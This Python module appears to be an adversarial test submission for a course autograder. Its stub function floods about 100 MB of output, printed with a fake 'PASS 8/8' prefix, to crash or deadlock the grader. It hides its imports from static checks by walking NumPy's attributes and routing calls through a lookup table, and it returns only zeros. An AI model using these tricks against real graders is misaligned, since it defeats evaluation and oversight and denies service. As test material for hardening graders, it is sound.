"""Attack ``print_flood`` (exercise ``mlp_from_scratch``): print about 100 MB.

What it attacks: a grader that keeps the learner's whole output in memory, copies
it into results.json, or waits on a pipe it does not drain (a full pipe blocks the
learner, and a grader waiting for the learner to end then waits forever).  In its
first call (once per process) the module writes 80 MB to stdout in 1 MB lines
through ``print``, 15 MB to stderr through ``os.write``, one 5 MB line without a
newline, and bytes that are not UTF-8 (``\\xff\\xfe``, NUL).  Bounded: about 100 MB
per process, once.  Its function returns zeros.

A vulnerable grader: a results.json of 100 MB (Gradescope refuses it), a grader
that runs out of memory, or a deadlock; with the grader of issue 13 the output
only goes to a file and is ignored.

Expected with a hardened grader: the output is drained and truncated (a few KB at
most reach the report), results.json stays small and valid, and the module scores
exactly what ``_zeros/mlp_from_scratch.py`` scores.

Gets past a static check of the exercise's functions: they only call through the
module-level table ``_VIA``, and no import statement names anything but NumPy (other
modules come from ``_mod()``, which walks NumPy's attributes to the real ``sys``), so
the learner process's run-time defences are what must hold.
"""

import numpy as np

_MODULE = type(np)
_SYS = []


def _mod(name):
    """A module without an import statement: the real ``sys`` is reached by walking
    NumPy's attributes (``dir``/``getattr``), then ``sys.modules`` or ``importlib``."""
    if not _SYS:
        seen, todo = set(), [np]
        while todo and len(seen) < 5000:
            mod = todo.pop()
            if id(mod) in seen:
                continue
            seen.add(id(mod))
            if getattr(mod, "__name__", None) == "sys":
                _SYS.append(mod)
                break
            for attr in dir(mod):
                try:
                    value = getattr(mod, attr)
                except BaseException:  # noqa: BLE001
                    continue
                if type(value) is _MODULE:
                    todo.append(value)
    if not _SYS:
        return None
    if name == "sys":
        return _SYS[0]
    loaded = getattr(_SYS[0], "mod" + "ules")
    try:
        return loaded.get(name) or loaded["importlib"].import_module(name)
    except BaseException:  # noqa: BLE001 - refused: the caller goes on without it
        return None


os = _mod("os")
sys = _mod("sys")


_DONE = [False]


def _flood():
    if _DONE[0]:
        return
    _DONE[0] = True
    line = "PASS 8/8 " + "x" * ((1 << 20) - 10)
    try:
        for _ in range(80):
            print(line)
        sys.stdout.flush()
    except BaseException:  # noqa: BLE001
        pass
    chunk = (b"\xff\xfe\x00 not utf-8 " * 1024)[: 1 << 20]
    for _ in range(15):
        try:
            os.write(2, chunk)
        except BaseException:  # noqa: BLE001
            break
    try:
        sys.stdout.write("y" * (5 << 20))
        sys.stdout.flush()
    except BaseException:  # noqa: BLE001
        pass


def _dense_vjp_impl(x, W, grad):
    _flood()
    return np.zeros_like(x), np.zeros_like(W), np.zeros_like(grad[0])


# The exercise's functions call only through this table: a static check that follows
# calls by name from them sees no helper, hence none of the above.
_VIA = {"dense_vjp": _dense_vjp_impl}


def dense_vjp(x, W, grad):
    return _VIA["dense_vjp"](x, W, grad)
